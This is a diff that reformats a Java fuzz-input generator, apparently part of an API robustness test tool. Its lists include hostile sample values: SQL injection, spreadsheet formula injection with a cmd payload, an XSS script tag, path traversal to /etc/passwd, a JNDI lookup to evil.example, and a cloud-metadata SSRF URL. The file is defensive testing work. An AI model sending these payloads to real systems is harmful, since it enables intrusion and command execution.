@@ -31,23 +31,64 @@ final class HostileInput {
     private static final int MAX_DEPTH = 4;
 
     static final List<String> HOSTILE_TEXT = List.of(
-            "", " ", "\u0000", "Ops\u0000", "a\u0007b", "line\r\nbreak", "tab\there", "\u001b[31mred",
-            "\u202Eevil.exe", "zero\u200Bwidth", "\uFEFFbom", "\uD800", "\uDFFF\uD800", "\uFFFF", "😀🏳️‍🌈👩🏽‍💻",
-            "é".repeat(3), "'; DROP TABLE clients; --", "=HYPERLINK(\"http://evil.example\")", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "<script>alert(1)</script>", "%00", "../../etc/passwd", "${jndi:ldap://evil.example/a}", "A".repeat(10_000),
+            "",
+            " ",
+            "\u0000",
+            "Ops\u0000",
+            "a\u0007b",
+            "line\r\nbreak",
+            "tab\there",
+            "\u001b[31mred",
+            "\u202Eevil.exe",
+            "zero\u200Bwidth",
+            "\uFEFFbom",
+            "\uD800",
+            "\uDFFF\uD800",
+            "\uFFFF",
+            "😀🏳️‍🌈👩🏽‍💻",
+            "é".repeat(3),
+            "'; DROP TABLE clients; --",
+            "=HYPERLINK(\"http://evil.example\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "<script>alert(1)</script>",
+            "%00",
+            "../../etc/passwd",
+            "${jndi:ldap://evil.example/a}",
+            "A".repeat(10_000),
             "𝔘𝔫𝔦𝔠𝔬𝔡𝔢".repeat(400));
 
     private static final List<JsonNode> WRONG_TYPES = List.of(
-            NODES.nullNode(), NODES.booleanNode(true), NODES.textNode("12"), NODES.arrayNode(), NODES.objectNode(),
-            NODES.numberNode(Long.MAX_VALUE), NODES.numberNode(Long.MIN_VALUE), NODES.numberNode(-1),
-            NODES.numberNode(new BigInteger("99999999999999999999999999999999")), NODES.numberNode(1e308),
-            NODES.numberNode(new BigDecimal("-0.000000000000000000001")), NODES.numberNode(2_147_483_648L),
+            NODES.nullNode(),
+            NODES.booleanNode(true),
+            NODES.textNode("12"),
+            NODES.arrayNode(),
+            NODES.objectNode(),
+            NODES.numberNode(Long.MAX_VALUE),
+            NODES.numberNode(Long.MIN_VALUE),
+            NODES.numberNode(-1),
+            NODES.numberNode(new BigInteger("99999999999999999999999999999999")),
+            NODES.numberNode(1e308),
+            NODES.numberNode(new BigDecimal("-0.000000000000000000001")),
+            NODES.numberNode(2_147_483_648L),
             nested(200));
 
     private static final List<String> NOT_THE_SHAPE = List.of(
-            "", "null", "[]", "\"text\"", "42", "{", "{\"a\":", "NaN", "\uFEFF{}", "{\"name\":\"a\",\"name\":\"b\"}",
-            "[".repeat(20_000) + "]".repeat(20_000), "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000),
-            "1e999999999", "{\"name\": \"\\u0000\"}", "{\"name\": \"\\ud800\"}", "{\"x\": " + "9".repeat(5_000) + "}",
+            "",
+            "null",
+            "[]",
+            "\"text\"",
+            "42",
+            "{",
+            "{\"a\":",
+            "NaN",
+            "\uFEFF{}",
+            "{\"name\":\"a\",\"name\":\"b\"}",
+            "[".repeat(20_000) + "]".repeat(20_000),
+            "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000),
+            "1e999999999",
+            "{\"name\": \"\\u0000\"}",
+            "{\"name\": \"\\ud800\"}",
+            "{\"x\": " + "9".repeat(5_000) + "}",
             "{\"name\": \"" + "x".repeat(2_200_000) + "\"}");
 
     private HostileInput() {}
@@ -67,7 +108,9 @@ final class HostileInput {
     private static Gen<JsonNode> value(JsonNode schema, JsonNode components, int depth) {
         var resolved = resolve(schema, components);
         Gen<JsonNode> wellTyped = wellTyped(resolved, components, depth);
-        return Generate.frequency(Pair.of(5, wellTyped), Pair.of(1, Generate.pick(WRONG_TYPES)),
+        return Generate.frequency(
+                Pair.of(5, wellTyped),
+                Pair.of(1, Generate.pick(WRONG_TYPES)),
                 Pair.of(1, Generate.pick(HOSTILE_TEXT).map(NODES::textNode)));
     }
 
@@ -80,9 +123,10 @@ final class HostileInput {
         return switch (type(schema)) {
             case "object" -> object(schema, components, depth);
             case "array" -> array(schema, components, depth);
-            case "integer", "number" -> Generate.frequency(
-                    Pair.of(3, Generate.range(-5, 150).map(i -> (JsonNode) NODES.numberNode(i))),
-                    Pair.of(1, Generate.pick(WRONG_TYPES.subList(5, 12))));
+            case "integer", "number" ->
+                Generate.frequency(
+                        Pair.of(3, Generate.range(-5, 150).map(i -> (JsonNode) NODES.numberNode(i))),
+                        Pair.of(1, Generate.pick(WRONG_TYPES.subList(5, 12))));
             case "boolean" -> Generate.booleans().map(NODES::booleanNode);
             default -> string(schema);
         };
@@ -91,10 +135,13 @@ final class HostileInput {
     private static Gen<JsonNode> object(JsonNode schema, JsonNode components, int depth) {
         var properties = new ArrayList<Pair<String, Gen<JsonNode>>>();
         if (depth < MAX_DEPTH) {
-            schema.path("properties").properties().forEach(property -> properties.add(
-                    Pair.of(property.getKey(), value(property.getValue(), components, depth + 1))));
+            schema.path("properties")
+                    .properties()
+                    .forEach(property -> properties.add(
+                            Pair.of(property.getKey(), value(property.getValue(), components, depth + 1))));
         }
-        Gen<Boolean> include = Generate.frequency(Pair.of(6, Generate.constant(true)), Pair.of(1, Generate.constant(false)));
+        Gen<Boolean> include =
+                Generate.frequency(Pair.of(6, Generate.constant(true)), Pair.of(1, Generate.constant(false)));
         return in -> {
             ObjectNode object = NODES.objectNode();
             for (var property : properties) {
@@ -107,7 +154,8 @@ final class HostileInput {
     }
 
     private static Gen<JsonNode> array(JsonNode schema, JsonNode components, int depth) {
-        Gen<JsonNode> item = depth < MAX_DEPTH ? value(schema.path("items"), components, depth + 1) : text().map(NODES::textNode);
+        Gen<JsonNode> item =
+                depth < MAX_DEPTH ? value(schema.path("items"), components, depth + 1) : text().map(NODES::textNode);
         Gen<Integer> size = Generate.frequency(Pair.of(8, Generate.range(0, 4)), Pair.of(1, Generate.constant(1_001)));
         return in -> {
             ArrayNode array = NODES.arrayNode();
@@ -126,16 +174,31 @@ final class HostileInput {
     private static Gen<JsonNode> string(JsonNode schema) {
         var format = schema.path("format").asText("");
         Gen<String> typical = switch (format) {
-            case "date-time" -> Generate.pick(List.of(
-                    Instant.now().minus(1, ChronoUnit.HOURS).toString(), "1969-12-31T23:59:59Z", "9999-12-31T23:59:59Z",
-                    "+10000-01-01T00:00:00Z", "2026-02-30T00:00:00Z", Instant.now().plus(400, ChronoUnit.DAYS).toString(),
-                    "yesterday", "-999999999-01-01T00:00:00Z"));
-            case "email" -> Generate.pick(List.of(
-                    "fuzz-" + UUID.randomUUID().toString().substring(0, 6) + "@fuzz.example", "a@b", "no-at-sign",
-                    "x".repeat(300) + "@fuzz.example", "eve\u0000@fuzz.example"));
-            case "uri", "url" -> Generate.pick(List.of(
-                    "https://hooks.fuzz.example/in", "javascript:alert(1)", "http://127.0.0.1:8080/",
-                    "http://169.254.169.254/latest/meta-data", "file:///etc/passwd", "https://[::1]/"));
+            case "date-time" ->
+                Generate.pick(List.of(
+                        Instant.now().minus(1, ChronoUnit.HOURS).toString(),
+                        "1969-12-31T23:59:59Z",
+                        "9999-12-31T23:59:59Z",
+                        "+10000-01-01T00:00:00Z",
+                        "2026-02-30T00:00:00Z",
+                        Instant.now().plus(400, ChronoUnit.DAYS).toString(),
+                        "yesterday",
+                        "-999999999-01-01T00:00:00Z"));
+            case "email" ->
+                Generate.pick(List.of(
+                        "fuzz-" + UUID.randomUUID().toString().substring(0, 6) + "@fuzz.example",
+                        "a@b",
+                        "no-at-sign",
+                        "x".repeat(300) + "@fuzz.example",
+                        "eve\u0000@fuzz.example"));
+            case "uri", "url" ->
+                Generate.pick(List.of(
+                        "https://hooks.fuzz.example/in",
+                        "javascript:alert(1)",
+                        "http://127.0.0.1:8080/",
+                        "http://169.254.169.254/latest/meta-data",
+                        "file:///etc/passwd",
+                        "https://[::1]/"));
             default -> text();
         };
         return Generate.frequency(Pair.of(3, typical), Pair.of(1, text())).map(NODES::textNode);
